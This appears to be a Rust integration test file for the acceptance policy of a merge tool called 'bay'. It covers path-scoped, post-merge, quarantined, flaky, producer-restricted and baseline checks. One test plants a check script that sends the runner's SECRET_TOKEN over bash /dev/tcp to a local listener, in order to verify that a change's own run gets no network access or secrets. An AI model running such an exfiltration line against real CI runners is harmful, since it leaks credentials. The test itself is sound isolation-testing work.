//! The acceptance policy's rules with real Git, real checks and a real runner: when a check is
//! required (`when_paths`), checks after the merge (`stage = "post"`), quarantines, reruns and
//! flaky checks, who may answer a check (`producers`), and a change to the checks themselves.

mod support;

use std::path::{Path, PathBuf};

use serde_json::Value;
use support::*;

/// A check that fails every run: a product failure of one unit on the tree it was sent.
const FAILING: &str = r#"#!/bin/sh
request=$(cat)
commit=$(printf '%s' "$request" | sed -n 's/.*"candidate":{"commit":"\([0-9a-f]*\)","tree":"\([0-9a-f]*\)".*/\1/p')
tree=$(printf '%s' "$request" | sed -n 's/.*"candidate":{"commit":"\([0-9a-f]*\)","tree":"\([0-9a-f]*\)".*/\2/p')
printf '{"schema":"bay.check.result/1","exercised":{"commit":"%s","tree":"%s"},"plan":{"selected":1,"completed":1},"checks":[{"id":"always","verdict":"product_failure","reason":"it always fails"}]}\n' "$commit" "$tree"
"#;

/// A check that fails its first run and passes every later one, counting runs in the file its
/// `FLAKY_STATE` variable names (so it runs without a sandbox, which would keep it from
/// remembering).
fn flaky() -> String {
    CHECK.replace(
        "units=\"\"",
        "units=\"\"\nif [ ! -e \"$FLAKY_STATE\" ]; then : > \"$FLAKY_STATE\"; printf '{\"schema\":\"bay.check.result/1\",\"exercised\":{\"commit\":\"%s\",\"tree\":\"%s\"},\"plan\":{\"selected\":1,\"completed\":1},\"checks\":[{\"id\":\"first\",\"verdict\":\"product_failure\"}]}\\n' \"$commit\" \"$tree\"; exit 1; fi",
    )
}

/// The usual check, plus `[[check]]` entries and tables of `extra`.
fn world_with(extra: &str, files: &[(&str, &str, bool)]) -> World {
    let policy = policy("") + extra;
    let mut all = vec![
        ("src/greeting.txt", "Hello\n", false),
        (".bay/config.toml", CONFIG, false),
        (".bay/policy.toml", policy.as_str(), false),
        (".bay/check", CHECK, true),
    ];
    all.extend_from_slice(files);
    World::new(&all)
}

fn other_check(id: &str, command: &str, extra: &str) -> String {
    format!(
        "\n[[check]]\nid = \"{id}\"\nenvironment = \"any\"\ncommand = \"{command}\"\nadapter = [\"{command}\"]\nexpected_minimum = 1\ntimeout_s = 60\n{extra}"
    )
}

/// Submits one edit as ann, runs the runner once as `runner`, and returns ann's status.
fn run_one(world: &World, path: &str, content: &str, env: &[(&str, &str)]) -> (String, Value) {
    let ann = world.clone_as("ann");
    let (change, view) = world.submit(&ann, "ann", "edit", path, content);
    let pass = bay_with(&world.admin, "runner", &["runner", "run", "--once"], env);
    assert_eq!(pass.code, 0, "{pass:?}");
    (change, bay(&view, "ann", &["status"]).doc)
}

/// Git config for a runner whose machine runs checks without a sandbox, on purpose.
fn no_sandbox(dir: &Path) -> PathBuf {
    let home = dir.join("home");
    std::fs::create_dir_all(&home).expect("mkdir");
    write(&home, ".gitconfig", "[bay]\n\texecutorSandbox = none\n");
    home
}

#[test]
fn a_check_with_when_paths_runs_only_when_the_change_touches_them() {
    let world = world_with(
        &other_check("docs", ".bay/failing", "when_paths = [\"docs/\"]\n"),
        &[
            (".bay/failing", FAILING, true),
            ("docs/guide.txt", "Guide\n", false),
        ],
    );
    let (change, status) = run_one(&world, "src/greeting.txt", "Hi\n", &[]);
    assert_eq!(status["decision"], "merged", "{status}");
    assert_eq!(
        status["detail"]["not_required"][0]["check"], "docs",
        "{status}"
    );
    assert!(
        status["detail"]["not_required"][0]["reason"]
            .as_str()
            .is_some_and(|r| r.contains("docs/"))
    );
    assert_eq!(world.merges_of(&change), 1);

    let bob = world.clone_as("bob");
    let (other, view) = world.submit(&bob, "bob", "edit docs", "docs/guide.txt", "More\n");
    bay(&world.admin, "runner", &["runner", "run", "--once"]);
    let status = bay(&view, "bob", &["status"]);
    assert_eq!(status.doc["reason"], "CHECK_FAILED", "{status:?}");
    assert_eq!(world.merges_of(&other), 0);
}

#[test]
fn a_post_check_never_blocks_the_merge_and_is_listed() {
    let world = world_with(
        &other_check("deploy", ".bay/failing", "stage = \"post\"\n"),
        &[(".bay/failing", FAILING, true)],
    );
    let (change, status) = run_one(&world, "src/greeting.txt", "Hi\n", &[]);
    assert_eq!(status["decision"], "merged", "{status}");
    assert_eq!(
        status["detail"]["post_checks"],
        serde_json::json!([{"check": "deploy", "environment": "any"}])
    );
    assert_eq!(world.merges_of(&change), 1);
}

#[test]
fn a_quarantined_check_is_set_aside_and_named_as_a_gap() {
    let world = world_with(
        &(other_check("e2e", ".bay/failing", "")
            + "\n[[quarantine]]\nid = \"e2e\"\nenvironment = \"any\"\nreason = \"red on main\"\nend = \"2020-01-01\"\nowner = \"platform\"\nsince = \"2019-12-01\"\n"),
        &[(".bay/failing", FAILING, true)],
    );
    let (change, status) = run_one(&world, "src/greeting.txt", "Hi\n", &[]);
    assert_eq!(status["decision"], "merged", "{status}");
    let gap = &status["detail"]["coverage_gaps"][0];
    assert_eq!(gap["check"], "e2e", "{status}");
    assert_eq!(gap["owner"], "platform");
    assert_eq!(
        gap["overdue"], true,
        "its end has passed, and it stays in force"
    );
    assert_eq!(world.merges_of(&change), 1);
}

#[test]
fn a_failure_then_a_pass_is_flaky_and_refused_unless_allowed() {
    for allow in [false, true] {
        let extra =
            format!("retry_on_failure = 2\nallow_flaky = {allow}\nenv = [\"FLAKY_STATE\"]\n");
        let world = World::new(&[
            ("src/greeting.txt", "Hello\n", false),
            (".bay/config.toml", CONFIG, false),
            (".bay/policy.toml", &policy(&extra), false),
            (".bay/check", &flaky(), true),
        ]);
        let home = no_sandbox(world.root.path());
        let state = world.root.path().join("flaky-state");
        let (change, status) = run_one(
            &world,
            "src/greeting.txt",
            "Hi\n",
            &[
                ("HOME", home.to_str().expect("utf-8")),
                ("FLAKY_STATE", state.to_str().expect("utf-8")),
            ],
        );
        if allow {
            assert_eq!(status["decision"], "merged", "{status}");
            let gap = &status["detail"]["coverage_gaps"][0];
            assert_eq!(gap["flaky"], true, "{status}");
            assert_eq!(gap["runs"].as_array().map(Vec::len), Some(2), "{status}");
            assert_eq!(world.merges_of(&change), 1);
            // Status counts the check's flaky merges over the red window.
            assert_eq!(
                status["detail"]["flakes"],
                serde_json::json!([{ "check": "files", "environment": "any", "merges": 1 }]),
                "{status}"
            );
        } else {
            assert_eq!(status["reason"], "CHECK_FLAKY", "{status}");
            let runs = status["detail"]["checks"].as_array().expect("every run");
            assert_eq!(runs.len(), 2);
            assert_eq!(runs[0]["verdict"], "product_failure");
            assert_eq!(runs[1]["verdict"], "pass");
            assert_eq!(world.merges_of(&change), 0);
            assert_eq!(
                status["detail"]["flakes"],
                serde_json::json!([]),
                "{status}"
            );
        }
        // Every run is kept as evidence on the candidate's tree.
        let records = world.evidence_lines("admin");
        assert_eq!(records, 2, "both runs are recorded");
    }
}

#[test]
fn a_failure_is_rerun_and_still_fails_after_its_retries() {
    let world = world_with(
        &other_check("always", ".bay/failing", "retry_on_failure = 2\n"),
        &[(".bay/failing", FAILING, true)],
    );
    let (change, status) = run_one(&world, "src/greeting.txt", "Hi\n", &[]);
    assert_eq!(status["reason"], "CHECK_FAILED", "{status}");
    assert_eq!(status["detail"]["runs"].as_array().map(Vec::len), Some(3));
    assert_eq!(world.merges_of(&change), 0);
}

#[test]
fn a_runner_that_is_not_a_named_producer_leaves_the_check_waiting() {
    let world = World::new(&[
        ("src/greeting.txt", "Hello\n", false),
        (".bay/config.toml", CONFIG, false),
        (
            ".bay/policy.toml",
            &policy("producers = [\"ci-1\"]\n"),
            false,
        ),
        (".bay/check", CHECK, true),
    ]);
    let (change, status) = run_one(&world, "src/greeting.txt", "Hi\n", &[]);
    assert_eq!(status["decision"], "queued", "{status}");
    assert_eq!(
        status["detail"]["operation"]["state"], "submitted",
        "unclaimed, left to a producer: {status}"
    );
    assert_eq!(world.merges_of(&change), 0);
    // The producer the policy names answers it.
    git(&world.admin, &["config", "bay.runnerName", "ci-1"]);
    bay(&world.admin, "ci-1", &["runner", "run", "--once"]);
    assert_eq!(world.merges_of(&change), 1);
}

#[test]
fn a_change_to_a_check_must_raise_revision_and_passes_both_versions() {
    let world = World::standard();
    let ann = world.clone_as("ann");
    // The check's program changes, the revision does not: refused.
    let start = bay(
        &ann,
        "ann",
        &["start", "tune the check", "--paths", ".bay/"],
    );
    let view = PathBuf::from(start.doc["detail"]["view"].as_str().expect("a view"));
    let change = start.doc["change"].as_str().expect("a change").to_owned();
    write(&view, ".bay/check", &format!("{CHECK}# tuned\n"));
    bay(&view, "ann", &["merge"]);
    bay(&world.admin, "runner", &["runner", "run", "--once"]);
    let status = bay(&view, "ann", &["status"]);
    assert_eq!(status.doc["reason"], "POLICY_INVALID", "{status:?}");
    assert!(
        status.doc["detail"]["why"]
            .as_str()
            .is_some_and(|why| why.contains("revision")),
        "{status:?}"
    );
    // With the revision raised it merges, checked with main's check and with its own.
    write(
        &view,
        ".bay/policy.toml",
        &policy("").replace("revision = 1", "revision = 2"),
    );
    bay(&view, "ann", &["merge"]);
    bay(&world.admin, "runner", &["runner", "run", "--once"]);
    let status = bay(&view, "ann", &["status"]);
    assert_eq!(status.doc["decision"], "merged", "{status:?}");
    assert_eq!(world.merges_of(&change), 1);
    let records = world.evidence("admin");
    assert_eq!(records.len(), 2, "one run per version of the check");
    // Each run's record names the check's definition, which what the adapter held decides.
    let definitions: Vec<&str> = records
        .iter()
        .map(|r| r["definition"].as_str().expect("a definition digest"))
        .collect();
    assert!(definitions.iter().all(|d| d.len() == 64), "{definitions:?}");
    assert_ne!(
        definitions[0], definitions[1],
        "main's check and the changed one"
    );
}

#[test]
fn a_change_to_the_checks_cannot_give_its_own_run_the_network_or_the_runner_s_secrets() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("a local port");
    let port = listener.local_addr().expect("an address").port();
    let world = World::standard();
    let ann = world.clone_as("ann");
    let start = bay(
        &ann,
        "ann",
        &["start", "widen the check", "--paths", ".bay/"],
    );
    let view = PathBuf::from(start.doc["detail"]["view"].as_str().expect("a view"));
    let change = start.doc["change"].as_str().expect("a change").to_owned();
    // The change's own check sends what it can to a listener here, and fails if it holds the
    // runner's secret; its policy asks for both the network and the secret.
    let grabbing = CHECK.replace(
        "units=\"\"",
        &format!(
            "printf 'token=%s\\n' \"${{SECRET_TOKEN:-none}}\" | bash -c 'cat > /dev/tcp/127.0.0.1/{port}' 2>/dev/null\n\
             units=\"\"\n\
             [ -n \"$SECRET_TOKEN\" ] && units='{{\"id\":\"secret\",\"verdict\":\"product_failure\"}}'"
        ),
    );
    write_program(&view, ".bay/check", &grabbing);
    write(
        &view,
        ".bay/policy.toml",
        &policy("network = true\nenv = [\"SECRET_TOKEN\"]\n")
            .replace("revision = 1", "revision = 2"),
    );
    assert_eq!(bay(&view, "ann", &["merge"]).doc["decision"], "queued");
    let pass = bay_with(
        &world.admin,
        "runner",
        &["runner", "run", "--once"],
        &[("SECRET_TOKEN", "hunter2")],
    );
    assert_eq!(pass.code, 0, "{pass:?}");
    let status = bay(&view, "ann", &["status"]);
    assert_eq!(
        status.doc["decision"], "merged",
        "its own run held no secret: {status:?}"
    );
    assert_eq!(world.merges_of(&change), 1);
    listener.set_nonblocking(true).expect("non-blocking");
    let reached = listener.accept().map(|(mut stream, _)| {
        let mut sent = String::new();
        std::io::Read::read_to_string(&mut stream, &mut sent).ok();
        sent
    });
    assert!(
        reached.is_err(),
        "the change's own check reached the network: {reached:?}"
    );
    // Merged, main's policy grants both, so the next change's run of the check has them: the
    // probe works, and only the change's own run was kept from them.
    let bob = world.clone_as("bob");
    let (next, view) = world.submit(&bob, "bob", "greet", "src/greeting.txt", "Hi\n");
    bay_with(
        &world.admin,
        "runner",
        &["runner", "run", "--once"],
        &[("SECRET_TOKEN", "hunter2")],
    );
    let status = bay(&view, "bob", &["status"]);
    assert_eq!(status.doc["reason"], "CHECK_FAILED", "{status:?}");
    assert_eq!(world.merges_of(&next), 0);
    let (mut stream, _) = listener
        .accept()
        .expect("main's check reached the listener");
    stream.set_nonblocking(false).expect("blocking");
    let mut sent = String::new();
    std::io::Read::read_to_string(&mut stream, &mut sent).expect("read");
    assert_eq!(sent, "token=hunter2\n");
}

/// A check with two units: `known` fails while `src/known-bug` exists, `new` while
/// `src/new-bug` does.
const TWO_UNITS: &str = r#"#!/bin/sh
request=$(cat)
commit=$(printf '%s' "$request" | sed -n 's/.*"candidate":{"commit":"\([0-9a-f]*\)","tree":"\([0-9a-f]*\)".*/\1/p')
tree=$(printf '%s' "$request" | sed -n 's/.*"candidate":{"commit":"\([0-9a-f]*\)","tree":"\([0-9a-f]*\)".*/\2/p')
known=pass; [ -e src/known-bug ] && known=product_failure
new=pass; [ -e src/new-bug ] && new=product_failure
printf '{"schema":"bay.check.result/1","exercised":{"commit":"%s","tree":"%s"},"plan":{"selected":2,"completed":2},"checks":[{"id":"known","verdict":"%s"},{"id":"new","verdict":"%s"}]}\n' "$commit" "$tree" "$known" "$new"
"#;

#[test]
fn a_baseline_check_fails_a_change_only_on_failures_its_base_does_not_share() {
    let world = World::new(&[
        ("src/greeting.txt", "Hello\n", false),
        ("src/known-bug", "already broken on main\n", false),
        (".bay/config.toml", CONFIG, false),
        (
            ".bay/policy.toml",
            &policy("baseline = \"base\"\n")
                .replace(".bay/check", ".bay/two-units")
                .replace("expected_minimum = 1", "expected_minimum = 2"),
            false,
        ),
        (".bay/two-units", TWO_UNITS, true),
    ]);
    // The failure main already has does not stop an unrelated change; the merge names it.
    let (change, status) = run_one(&world, "src/greeting.txt", "Hi\n", &[]);
    assert_eq!(status["decision"], "merged", "{status}");
    let gap = &status["detail"]["coverage_gaps"][0];
    assert_eq!(
        gap["baseline_failures"],
        serde_json::json!(["known"]),
        "{status}"
    );
    assert_eq!(world.merges_of(&change), 1);
    // The check ran on the candidate, then once on the base, and both records are kept.
    let first_main = git_dir(&world.remote, &["rev-parse", "main~1^{tree}"]);
    let records = world.evidence("admin");
    assert_eq!(records.len(), 2, "{records:?}");
    assert!(
        records
            .iter()
            .any(|r| r["candidate"]["tree"] == first_main.trim()
                && r["verdict"] == "product_failure"),
        "the base run's record hangs on the base: {records:?}"
    );

    // A new failure does. Main is the merged candidate, so its own record is the base's:
    // the check does not run on the base again.
    let bob = world.clone_as("bob");
    let (broken, view) = world.submit(&bob, "bob", "break more", "src/new-bug", "new\n");
    bay(&world.admin, "runner", &["runner", "run", "--once"]);
    let status = bay(&view, "bob", &["status"]);
    assert_eq!(status.doc["reason"], "CHECK_FAILED", "{status:?}");
    assert_eq!(
        status.doc["detail"]["new_failures"],
        serde_json::json!(["new"]),
        "{status:?}"
    );
    let failed = &status.doc["detail"]["checks"][0];
    assert_eq!(failed["check"], "files", "{status:?}");
    assert_eq!(
        failed["reasons"],
        serde_json::json!([{"id": "new", "verdict": "product_failure"}]),
        "only the new failure is a reason: {status:?}"
    );
    assert_eq!(failed["baseline_failures"], serde_json::json!(["known"]));
    assert_eq!(world.merges_of(&broken), 0);
    assert_eq!(
        world.evidence("admin").len(),
        3,
        "one more run, on the candidate; the base's own record stood"
    );
}

#[test]
fn a_failed_check_names_each_failing_unit_and_its_reason() {
    let world = World::standard();
    let (change, status) = run_one(&world, "src/greeting.txt", "", &[]);
    assert_eq!(status["reason"], "CHECK_FAILED", "{status}");
    let failed = &status["detail"]["checks"][0];
    assert_eq!(failed["check"], "files", "{status}");
    assert_eq!(failed["verdict"], "product_failure");
    assert_eq!(
        failed["reasons"],
        serde_json::json!([{"id": "src/greeting.txt", "verdict": "product_failure", "reason": "bad file"}]),
        "{status}"
    );
    assert!(failed.get("baseline_failures").is_none(), "{status}");
    assert_eq!(world.merges_of(&change), 0);
}
